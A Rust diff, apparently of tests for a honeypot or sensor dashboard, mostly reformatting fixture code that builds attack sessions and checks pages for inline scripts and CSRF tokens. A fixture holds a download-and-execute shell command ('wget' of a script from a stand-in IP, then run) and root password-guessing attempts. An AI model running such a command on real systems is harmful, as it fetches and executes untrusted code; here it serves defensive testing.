@@ -111,7 +111,7 @@ fn observable(n: u128, class: AttackClass, score: f64) -> Observable {
         value: format!("203.0.113.{n}"),
         scope: AddressScope::Global,
         realm: Realm::Real,
-        org: org(3),
+        org: Some(org(3)),
         tlp: if n % 3 == 0 { Tlp::Green } else { Tlp::Amber },
         class,
         score,
@@ -162,7 +162,10 @@ fn session_detail(hostile: bool) -> SessionDetail {
     let command = if hostile { HOSTILE } else { "cd /tmp; wget http://198.51.100.9/x.sh; chmod +x x.sh; ./x.sh" };
     let events = [
         ("conn.open", json!({"src_ip": "203.0.113.7", "src_port": 51_022})),
-        ("proto.fingerprint", json!({"version": "SSH-2.0-libssh2_1.10.0", "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1"})),
+        (
+            "proto.fingerprint",
+            json!({"version": "SSH-2.0-libssh2_1.10.0", "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1"}),
+        ),
         ("auth.attempt", json!({"user": "root", "password": "123456", "method": "password", "success": false})),
         ("auth.attempt", json!({"user": "root", "password": "admin", "method": "password", "success": false})),
         ("auth.attempt", json!({"user": "root", "password": "P@ssw0rd", "method": "password", "success": true})),
@@ -181,7 +184,11 @@ fn session_detail(hostile: bool) -> SessionDetail {
         session: session(7, AttackClass::Download),
         reason: sensor::classify::Reason {
             rule: "file".into(),
-            facts: vec![("files".into(), "0".into()), ("urls".into(), "1".into()), ("first".into(), "http://198.51.100.9/x.sh".into())],
+            facts: vec![
+                ("files".into(), "0".into()),
+                ("urls".into(), "1".into()),
+                ("first".into(), "http://198.51.100.9/x.sh".into()),
+            ],
         },
         foreign_key: "s-1".into(),
         users: vec!["root".into()],
@@ -255,8 +262,13 @@ fn bars() -> Vec<TimelineBar> {
 }
 
 fn attacks(look: &Look, full: bool) -> Vec<Row> {
-    let classes = [AttackClass::Download, AttackClass::CommandExecution, AttackClass::CredentialSpray, AttackClass::Scan];
-    let rows = if full { (1..30).map(|n| observable(n, classes[n as usize % 4], 0.97 - n as f64 * 0.03)).collect() } else { Vec::new() };
+    let classes =
+        [AttackClass::Download, AttackClass::CommandExecution, AttackClass::CredentialSpray, AttackClass::Scan];
+    let rows = if full {
+        (1..30).map(|n| observable(n, classes[n as usize % 4], 0.97 - n as f64 * 0.03)).collect()
+    } else {
+        Vec::new()
+    };
     let loaded = list::Loaded::of(rows, full.then(|| "next".to_owned()));
     let bars = if full { bars() } else { Vec::new() };
     desk::attack::draw(look, &bars, &loaded)
@@ -264,23 +276,30 @@ fn attacks(look: &Look, full: bool) -> Vec<Row> {
 
 fn queue(look: &Look, full: bool) -> Row {
     let rows: Vec<Finding> = if full {
-        (0..14).map(|n| finding(n, 4 - (n % 4) as u8, if n % 5 == 2 { FindingState::Taken } else { FindingState::New })).collect()
+        (0..14)
+            .map(|n| finding(n, 4 - (n % 4) as u8, if n % 5 == 2 { FindingState::Taken } else { FindingState::New }))
+            .collect()
     } else {
         Vec::new()
     };
     let chosen = rows.first().cloned();
     let groups: Vec<Group> = if full {
-        [("sensor.download", 4, 4), ("sensor.command_execution", 5, 3), ("sensor.credential_guessing", 3, 2), ("edge.drift", 2, 3)]
-            .map(|(rule, open, severity)| Group {
-                rule: rule.into(),
-                org: org(3),
-                open,
-                new: open,
-                severity,
-                oldest: ago(7_000),
-                latest: ago(60),
-            })
-            .to_vec()
+        [
+            ("sensor.download", 4, 4),
+            ("sensor.command_execution", 5, 3),
+            ("sensor.credential_guessing", 3, 2),
+            ("edge.drift", 2, 3),
+        ]
+        .map(|(rule, open, severity)| Group {
+            rule: rule.into(),
+            org: org(3),
+            open,
+            new: open,
+            severity,
+            oldest: ago(7_000),
+            latest: ago(60),
+        })
+        .to_vec()
     } else {
         Vec::new()
     };
@@ -387,7 +406,17 @@ fn every(check: impl Fn(&Drawn, &'static str)) {
 fn no_page_holds_anything_inline() {
     every(|page, lang| {
         let html = page.html.to_ascii_lowercase();
-        for never in [" style=", "<style", " onclick=", " onload=", " onsubmit=", "javascript:", "hx-on", "http://www.w3", "data:"] {
+        for never in [
+            " style=",
+            "<style",
+            " onclick=",
+            " onload=",
+            " onsubmit=",
+            "javascript:",
+            "hx-on",
+            "http://www.w3",
+            "data:",
+        ] {
             assert!(!html.contains(never), "{lang} {} holds {never}", page.name);
         }
         for script in html.split("<script").skip(1) {
@@ -418,7 +447,10 @@ fn every_page_has_its_landmarks() {
         assert!(html.contains("class=\"skip\" href=\"#main\""), "{place}");
         assert_eq!(html.matches("<table").count(), html.matches("<caption").count(), "{place}");
         for form in html.split("<form method=\"post\"").skip(1) {
-            assert!(form.split("</form>").next().unwrap().contains("name=\"csrf\""), "{place}: a form without its token");
+            assert!(
+                form.split("</form>").next().unwrap().contains("name=\"csrf\""),
+                "{place}: a form without its token"
+            );
         }
     });
 }
